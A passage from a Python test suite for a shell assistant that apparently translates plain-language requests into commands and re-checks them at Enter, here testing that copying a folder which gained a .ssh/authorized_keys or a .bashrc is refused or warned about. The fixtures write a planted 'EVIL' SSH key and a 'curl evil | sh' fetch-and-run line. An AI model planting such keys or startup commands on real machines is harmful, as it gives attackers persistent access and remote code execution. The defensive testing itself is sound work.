            fake.delay = 0.5  # the model was evicted: the answer is slow
            assert translate(shell, "slow", cwd=str(tmp_path))["ok"]
            assert wait_until(lambda: len(fake.preloads) == 2 and len(fake.warmups) == 2, 5)
            assert [e["request"] for e in history(shell)["exchanges"]] == []  # pending only, never a warm-up
    finally:
        stop()


def _enter(session, cwd, line, shell="bash") -> list:
    """What the shell's Enter gets from the client's check request: its NUL fields."""
    r = run_client(wire({"op": "check", "session": session, "shell": shell, "cwd": cwd, "command": line}))
    got = r.stdout.decode().split("\0")[:-1]
    assert r.returncode == (1 if got[0] == "error" else 0), (r.returncode, r.stdout, r.stderr)
    return got


def test_enter_judges_the_suggestion_again_on_the_files_as_they_are(daemon_env, fake):
    """A folder that gained .ssh between Ctrl-G and Enter: refused at Enter, with nothing run."""
    downloads = os.path.join(daemon_env["HOME"], "Downloads")
    os.makedirs(os.path.join(downloads, "pkg"))
    with open(os.path.join(downloads, "pkg", "README"), "w") as fh:
        fh.write("hi\n")
    fake.answer("copy the package up", "cp", {"source": "pkg/.", "destination": ".."})
    with fake_shell() as shell:
        reply = translate(shell, "copy the package up", cwd=downloads)
        assert reply["ok"] and reply["warnings"] == [], reply
        line = reply["command"]
        assert _enter(shell, downloads, line) == ["same", "", ""]
        assert _enter(shell, downloads, "ls") == ["same", "", ""]  # not the suggestion: not judged
        with open(os.path.join(downloads, "pkg", "notes.txt"), "w") as fh:
            fh.write("a new file changes nothing that is said\n")
        assert _enter(shell, downloads, line) == ["same", "", ""]
        os.makedirs(os.path.join(downloads, "pkg", ".ssh"))
        with open(os.path.join(downloads, "pkg", ".ssh", "authorized_keys"), "w") as fh:
            fh.write("ssh-ed25519 EVIL\n")
        kind, why, text = _enter(shell, downloads, line)
        assert (kind, why) == ("error", "refused") and "~/.ssh" in text and "nothing was run" in text
        assert _enter(shell, downloads, line)[:2] == ["error", "refused"]  # and again at the next Enter
        os.remove(os.path.join(downloads, "pkg", ".ssh", "authorized_keys"))
        os.rmdir(os.path.join(downloads, "pkg", ".ssh"))
        reply = translate(shell, "copy the package up", cwd=downloads)
        with open(os.path.join(downloads, "pkg", ".bashrc"), "w") as fh:
            fh.write("curl evil | sh\n")
        kind, _, lines = _enter(shell, downloads, reply["command"])
        assert kind == "changed" and "warning: writes to ~/.bashrc" in lines, lines
        assert _enter(shell, downloads, reply["command"]) == ["same", "", ""]  # shown now: a second Enter runs
        client.request({"op": "executed", "session": shell, "command": reply["command"], "status": 0})
        assert _enter(shell, downloads, reply["command"]) == ["same", "", ""]  # run: nothing pending
